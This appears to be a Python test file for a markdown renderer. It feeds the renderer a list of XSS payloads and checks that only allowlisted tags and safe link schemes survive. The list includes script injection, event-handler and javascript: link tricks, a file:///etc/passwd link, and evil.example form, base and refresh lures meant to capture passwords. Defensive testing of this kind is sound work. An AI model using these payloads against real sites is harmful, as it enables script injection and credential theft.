"""Notes: what markdown may become, and what never gets through."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vinculo.interactions.markdown import LONGEST_RENDERED, render

CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n[x]",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href='//evil.example' style='position:fixed;inset:0' id=main class=dialog>x</a>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "``</code><script>alert(1)</script>``",
    "<!--><img src=x onerror=alert(1)>-->",
    "<div hx-get='/settings' hx-trigger=load>x</div>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
]

ALLOWED = re.compile(
    r"</?(p|br|strong|em|s|code|pre|blockquote|ul|ol|li|a|h[1-4]|hr|table|thead|tbody|tr|th|td)"
    r"(\s(href|title|rel)=\"[^\"]*\")*\s*/?>"
)


def assert_harmless(html: str) -> None:
    """Only the tags above, only links to the web, mail and phone."""
    rest = ALLOWED.sub("", html)
    assert "<" not in rest, rest
    for address in re.findall(r'<a [^>]*href="([^"]*)"', html):
        scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", address, re.I)
        assert scheme is None or scheme.group(1).lower() in ("http", "https", "mailto", "tel")


@pytest.mark.parametrize("text", CORPUS)
def test_hostile_text_does_no_harm(text: str) -> None:
    assert_harmless(render(text))
    assert_harmless(render(text, ("Ana", "alert")))


@given(st.text(alphabet="<>\"'/=&#:;()[]!`*_@ \n\tajsvcriptonerdhx", max_size=80))
def test_no_text_does_harm(text: str) -> None:
    assert_harmless(render(text, ("a", "js")))


def test_markdown_is_rendered_and_links_are_cut_loose() -> None:
    html = render("**Price** [list](https://a.example)\nnext\n\n- one\n- two")
    assert "<strong>Price</strong>" in html
    assert '<a href="https://a.example" rel="noopener noreferrer nofollow">list</a>' in html
    assert "<br>" in html
    assert "<li>one</li>" in html
    assert 'href="tel:+34955472912"' in render("[call](tel:+34955472912)")


def test_mentions_stand_out_in_text_only() -> None:
    html = render('Ask @Ana and @ana [x](https://a.example "@Ana") `@Ana` @Anabel', ("Ana",))
    assert html.count("<strong>@Ana</strong>") == 2
    assert "<strong>@ana</strong>" in html
    assert 'title="@Ana"' in html
    assert "<code>@Ana</code>" in html


def test_a_very_long_text_is_shown_as_it_is() -> None:
    html = render("<b>" + "[" * LONGEST_RENDERED)
    assert html.startswith("<pre>&lt;b&gt;")


def test_deep_nesting_ends() -> None:
    assert_harmless(render("> " * 2000 + "x"))
    assert_harmless(render("[" * 5000 + "x"))
    assert_harmless(render("*" * 5000))
